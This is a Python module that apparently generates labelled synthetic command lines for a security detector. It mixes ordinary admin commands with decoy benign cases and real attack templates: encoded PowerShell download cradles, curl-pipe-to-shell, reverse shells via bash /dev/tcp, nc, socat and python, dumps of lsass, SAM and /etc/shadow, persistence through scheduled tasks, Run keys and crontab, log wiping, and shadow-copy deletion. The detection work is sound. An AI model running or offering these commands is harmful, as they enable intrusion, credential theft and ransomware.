"""Write PowerShell and shell command lines, plain and encoded.

Encoded payloads are real encodings (base64 of UTF-16LE, base64, gzip then base64) of the same kind
of lines; what they decode to decides the label.
"""

from __future__ import annotations

from random import Random

from overproof.events.simulate import payloads, words
from overproof.events.simulate.words import Actor


def _prompt(rng: Random, who: Actor, line: str, *, windows: bool) -> str:
    """Write a line as it is recorded: bare, or with the prompt in front."""
    if rng.random() < 0.5:
        return line
    return f"PS C:\\Users\\{who.user}> {line}" if windows else f"{who.user}@{who.host}:~$ {line}"


def _powershell(rng: Random, who: Actor, script: str) -> str:
    """Write a script as an encoded command, with the switches everybody uses."""
    switches = [s for s in ("-NoProfile", "-NonInteractive", "-w hidden", "-ep bypass") if rng.random() < 0.4]
    flag = rng.choice(("-enc", "-EncodedCommand", "-e", "-ec"))
    return _prompt(rng, who, " ".join(["powershell", *switches, flag, payloads.utf16(script)]), windows=True)


def _benign_script(rng: Random) -> str:
    thing = words.name(rng)
    return rng.choice(
        (
            f"Get-Service {thing} | Select Name,Status",
            f"Get-ChildItem D:\\{thing} | Measure-Object",
            f"Restart-Service {thing} -Force",
            f"Get-HotFix | Export-Csv {thing}.csv",
            f"Write-Output 'inventory {thing}'; Get-Date",
            f"Test-Path C:\\{thing}\\ready.txt",
        )
    )


def _fetching(rng: Random, host: str) -> str:
    file = words.name(rng)
    return rng.choice(
        (
            f"IEX (New-Object Net.WebClient).DownloadString('http://{host}/{file}')",
            f"iwr http://{host}/{file}.ps1 -UseBasicParsing | iex",
            f"$c=(irm http://{host}/{file});iex $c",
        )
    )


def shell_work(rng: Random, who: Actor) -> str:
    """Write a command line of ordinary work."""
    thing, other = words.name(rng), words.name(rng)
    windows = rng.random() < 0.4
    if windows:
        return _prompt(rng, who, _benign_script(rng), windows=True)
    line = rng.choice(
        (
            f"ls -la /srv/{thing}",
            f"git clone https://{who.inner}/{thing}.git && cd {thing}",
            f"systemctl status {thing}",
            f"tar czf {thing}.tgz /home/{other}",
            f"rsync -a /srv/{thing} {who.inner}:/backup/{other}",
            f"grep -rn {thing} src/ | head -{rng.randrange(50)}",
            f"docker run --rm -it {thing}:latest {other}",
            f"kubectl get pods -n {thing}",
            f"python3 {thing}.py --input {other}.csv",
            f"find /var/{thing} -name '*.log' -mtime +{rng.randrange(90)}",
            f"ssh {other}@{who.inner} uptime",
            f"pip install --index-url https://{who.inner}/simple {thing}",
        )
    )
    return _prompt(rng, who, line, windows=False)


def encoded_work(rng: Random, who: Actor) -> str:
    """Write a benign script that a deployment tool encoded (hard benign)."""
    roll = rng.random()
    if roll < 0.6:
        return _powershell(rng, who, _benign_script(rng))
    file = words.name(rng)
    config = f"[{file}]\nhost={who.inner}\nretries={rng.randrange(9)}\n"
    if roll < 0.8:
        return _prompt(rng, who, f"echo {payloads.plain(config)} | base64 -d > /etc/{file}.conf", windows=False)
    return _prompt(rng, who, f"echo {payloads.packed(config)} | base64 -d | gunzip > {file}.ini", windows=False)


def encoded_powershell(rng: Random, who: Actor) -> str:
    """Write an encoded payload that fetches code and runs it."""
    script = _fetching(rng, words.outside(rng))
    roll = rng.random()
    if roll < 0.7:
        return _powershell(rng, who, script)
    if roll < 0.85:
        inner = f"$s=[IO.MemoryStream]::new([Convert]::FromBase64String('{payloads.packed(script)}'));iex $s"
        return _prompt(rng, who, f'powershell -nop -c "{inner}"', windows=True)
    fetch = f"curl -s http://{words.outside(rng)}/{words.name(rng)} | bash"
    return _prompt(rng, who, f"echo {payloads.plain(fetch)} | base64 -d | bash", windows=False)


def encoded_recon(rng: Random, who: Actor) -> str:
    """Write an encoded script that only looks around: worth a look."""
    look = rng.choice(("whoami /all", "net group 'Domain Admins'", "nltest /dclist:", "quser", "arp -a", "net view"))
    return _powershell(rng, who, f"{look}; {rng.choice(('ipconfig', 'hostname', 'systeminfo'))} > {words.name(rng)}")


def _download(rng: Random, who: Actor, *, from_inside: bool) -> str:
    """Write a download that is run, with another host named beside it as documentation."""
    near, far = words.inside(rng), words.outside(rng)
    source, named = (near, far) if from_inside else (far, near)
    file, other, windows = words.name(rng), words.name(rng), rng.random() < 0.3
    suffix = "ps1" if windows else "sh"
    url, link = f"http://{source}/{file}.{suffix}", f"http://{named}/{other}.{suffix}"
    if windows:
        work = rng.choice((f"iwr {url} -OutFile {file}.ps1; .\\{file}.ps1", f"Invoke-WebRequest {url} | iex"))
        note = rng.choice((f"Write-Host docs {link}", f"$help='{link}'"))
    else:
        work = rng.choice((f"curl -fsSL {url} | sh", f"wget -q {url} -O /tmp/{file} && sh /tmp/{file}"))
        note = rng.choice((f"echo docs {link}", f"HELP={link}"))
    return _prompt(rng, who, "; ".join((work, note) if rng.random() < 0.5 else (note, work)), windows=windows)


def documented_cradle(rng: Random, who: Actor) -> str:
    """Write a command that fetches code from outside and runs it, with a link to the own pages beside it."""
    return _download(rng, who, from_inside=False)


def admin_download(rng: Random, who: Actor) -> str:
    """Write the same line with the own server as source and the link outside (hard benign)."""
    return _download(rng, who, from_inside=True)


def download_cradle(rng: Random, who: Actor) -> str:
    """Write a command that fetches code from outside and runs it at once."""
    host, file = words.outside(rng), words.name(rng)
    line = rng.choice(
        (
            f'powershell -c "{_fetching(rng, host)}"',
            f"certutil -urlcache -split -f http://{host}/{file}.exe {file}.exe && {file}.exe",
            f"bitsadmin /transfer {file} http://{host}/{file} C:\\Temp\\{file}.exe",
            f"mshta http://{host}/{file}.hta",
            f"regsvr32 /s /n /u /i:http://{host}/{file}.sct scrobj.dll",
            f"curl http://{host}/{file} -o /tmp/.{file} && chmod +x /tmp/.{file} && /tmp/.{file}",
        )
    )
    return _prompt(rng, who, line, windows="curl" not in line)


def reverse_shell(rng: Random, who: Actor) -> str:
    """Write a command that hands a shell to a host outside."""
    host, port = words.outside(rng), rng.choice((4444, 9001, 1337, 443, rng.randrange(1025, 60000)))
    pipe = words.name(rng)
    line = rng.choice(
        (
            f"bash -i >& /dev/tcp/{host}/{port} 0>&1",
            f"nc {host} {port} -e /bin/sh",
            f"mkfifo /tmp/{pipe}; cat /tmp/{pipe} | sh -i 2>&1 | nc {host} {port} > /tmp/{pipe}",
            f'python3 -c \'import socket,pty;s=socket.create_connection(("{host}",{port}));pty.spawn("sh")\'',
            f"socat exec:'bash -li',pty,stderr tcp:{host}:{port}",
        )
    )
    return _prompt(rng, who, line, windows=False)


def port_check(rng: Random, who: Actor) -> str:
    """Write a command that tests whether a port is open: the same tools, nothing handed over (hard benign)."""
    host, port = words.inside(rng), rng.choice((22, 443, 8443, 5432, rng.randrange(1025, 60000)))
    line = rng.choice(
        (
            f"nc -zv {host} {port}",
            f"timeout 2 bash -c '</dev/tcp/{host}/{port}' && echo {words.name(rng)} open",
            f"socat - tcp:{host}:{port} < {words.name(rng)}.txt",
            f"python3 -c 'import socket;socket.create_connection((\"{host}\",{port}))'",
        )
    )
    return _prompt(rng, who, line, windows=False)


def credential_dump(rng: Random, who: Actor) -> str:
    """Write a command that takes secrets from memory or disk (rare)."""
    file = words.name(rng)
    line = rng.choice(
        (
            f"rundll32 comsvcs.dll, MiniDump {rng.randrange(400, 900)} C:\\Temp\\{file}.dmp full",
            f"reg save HKLM\\SAM C:\\Temp\\{file}.hiv",
            f"procdump -ma lsass.exe {file}.dmp",
            f"cat /etc/shadow > /tmp/{file}",
            f"ntdsutil ifm create full C:\\{file}",
            f"secretsdump {who.user}@{who.inner} -just-dc > {file}",
        )
    )
    return _prompt(rng, who, line, windows="/etc" not in line)


def recon(rng: Random, who: Actor) -> str:
    """Write a command line that looks around, several questions at once."""
    windows = ("whoami /priv", "net user /domain", "net localgroup administrators", "systeminfo", "nltest /dclist:")
    unix = ("id", "cat /etc/passwd", "sudo -l", "uname -a", "find / -perm -4000", "ss -lntp", "getent group sudo")
    is_windows = rng.random() < 0.5
    steps = rng.sample(windows if is_windows else unix, rng.randint(2, 4))
    return _prompt(rng, who, rng.choice((" && ", "; ")).join(steps) + f" > {words.name(rng)}.txt", windows=is_windows)


def persistence(rng: Random, who: Actor) -> str:
    """Write a command that arranges for something to be started again."""
    file = words.name(rng)
    line = rng.choice(
        (
            f"schtasks /create /sc onlogon /tn {file} /tr C:\\Users\\Public\\{words.name(rng)}.exe",
            f"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {file} /d C:\\Temp\\{file}.exe",
            f"(crontab -l; echo '@reboot /tmp/.{file}') | crontab -",
            f"echo /dev/shm/{file} >> ~/.bashrc",
        )
    )
    return _prompt(rng, who, line, windows="\\" in line)


def _two_steps(rng: Random, who: Actor, first: str, second: str) -> str:
    others = [f"touch /run/{words.name(rng)}", f"cd /srv/{words.name(rng)}", f"echo done {words.name(rng)}", "sync"]
    before, after = rng.sample(others, 2)
    return _prompt(rng, who, f"{before}; {first} && {second}; {after}", windows=False)


def _copy_and_empty(rng: Random) -> tuple[str, str]:
    log = rng.choice(("auth", "audit", "secure", "wtmp", "syslog"))
    return f"cp /var/log/{log}.log /backup/{words.name(rng)}.log", f"truncate -s 0 /var/log/{log}.log"


def log_rotation(rng: Random, who: Actor) -> str:
    """Write steps that copy a log, then empty it (hard benign)."""
    copy, empty = _copy_and_empty(rng)
    return _two_steps(rng, who, copy, empty)


def log_wiping(rng: Random, who: Actor) -> str:
    """Write steps that empty a log first; the copy after it keeps nothing."""
    copy, empty = _copy_and_empty(rng)
    return _two_steps(rng, who, empty, copy)


def shadow_deletion(rng: Random, who: Actor) -> str:
    """Write a command that removes restore points before encryption (novel)."""
    file = words.name(rng)
    line = rng.choice(
        (
            f"vssadmin delete shadows /all /quiet && C:\\Temp\\{file}.exe",
            f"wmic shadowcopy delete; C:\\Users\\Public\\{file}.exe",
            f"bcdedit /set {{default}} recoveryenabled no && {file}.exe",
            f"wbadmin delete catalog -quiet && {file}.exe D:\\{words.name(rng)}",
        )
    )
    return _prompt(rng, who, line, windows=True)
